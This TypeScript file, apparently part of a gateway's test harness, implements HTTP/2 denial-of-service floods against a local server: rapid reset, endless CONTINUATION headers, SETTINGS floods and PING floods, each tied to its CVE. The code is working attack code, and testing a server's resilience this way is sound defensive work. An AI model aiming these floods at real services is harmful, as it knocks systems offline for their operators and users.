import { connect } from 'node:tls'
import { fields, FLAG, frame, getFields, getFrame, TYPE, word } from '../../test/helpers/raw-http2.ts'
import { atPace, type Flood, type FloodTarget } from './floods.ts'

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1')
/** Sessions that an attacker opens in a second, as the ones before are closed to it, and has at once. */
const SESSIONS_PER_SECOND = 10
const MAX_SESSIONS = 20
/** How often a session sends frames, in milliseconds. */
const TICK = 20

/** What a session sends next. @param turn - From 0. */
type Frames = (turn: number) => readonly Buffer[]

const CANCEL = 8

/** Floods over HTTP/2, by name. */
export const HTTP2_FLOODS: Readonly<Record<string, Flood>> = {
  /** CVE-2023-44487: streams that are opened only to be reset. Each is a request, so that a rate limit has a say. */
  'rapid-reset': overSessions((turn) =>
    many(100, (index) => {
      const stream = 2 * (turn * 100 + index) + 1
      return Buffer.concat([
        getFrame(stream, '/limited'),
        frame(TYPE.resetStream, FLAG.none, stream, word(CANCEL))
      ])
    })
  ),

  /** CVE-2024-27316: a header that never ends. */
  continuation: overSessions((turn) =>
    turn === 0
      ? [frame(TYPE.headers, FLAG.endStream, 1, getFields('/'))]
      : many(50, (index) =>
          frame(TYPE.continuation, FLAG.none, 1, fields([`x-${turn}-${index}`, 'y'.repeat(100)]))
        )
  ),

  /** CVE-2019-9515: each has to be acknowledged. */
  settings: overSessions(() => many(200, () => frame(TYPE.settings, FLAG.none, 0))),

  /** CVE-2019-9512: each has to be answered. */
  ping: overSessions(() => many(500, () => frame(TYPE.ping, FLAG.none, 0, Buffer.alloc(8))))
}

function many(count: number, make: (index: number) => Buffer): Buffer[] {
  return Array.from({ length: count }, (_, index) => make(index))
}

function overSessions(frames: Frames): Flood {
  return async (target, signal) => {
    const open = new Set<() => void>()
    await atPace(signal, SESSIONS_PER_SECOND, () => {
      if (open.size >= Math.ceil(MAX_SESSIONS * target.strength)) return
      const close = startSession(target, frames, () => open.delete(close))
      open.add(close)
    })
    for (const close of open) close()
  }
}

/** @returns What ends it. */
function startSession({ port, from, tally }: FloodTarget, frames: Frames, onClose: () => void): () => void {
  // Node's types know of no local address of a TLS connection; it goes to `net.connect`.
  const options = {
    host: '127.0.0.1',
    port,
    localAddress: from,
    ALPNProtocols: ['h2'],
    rejectUnauthorized: false
  }
  const socket = connect(options)
  let timer: NodeJS.Timeout | undefined
  let isOver = false
  tally.add('opened')
  // What becomes of it is counted by its close; what the gateway says meanwhile is not looked at.
  socket.on('error', () => {}).resume()
  socket.once('secureConnect', () => {
    socket.write(Buffer.concat([PREFACE, frame(TYPE.settings, FLAG.none, 0)]))
    let turn = 0
    timer = setInterval(() => {
      if (socket.writableLength < 2 ** 20) socket.write(Buffer.concat(frames(turn++)))
    }, TICK)
  })
  socket.once('close', () => {
    clearInterval(timer)
    if (!isOver) tally.add('closed')
    onClose()
  })
  return () => {
    isOver = true
    socket.destroy()
  }
}
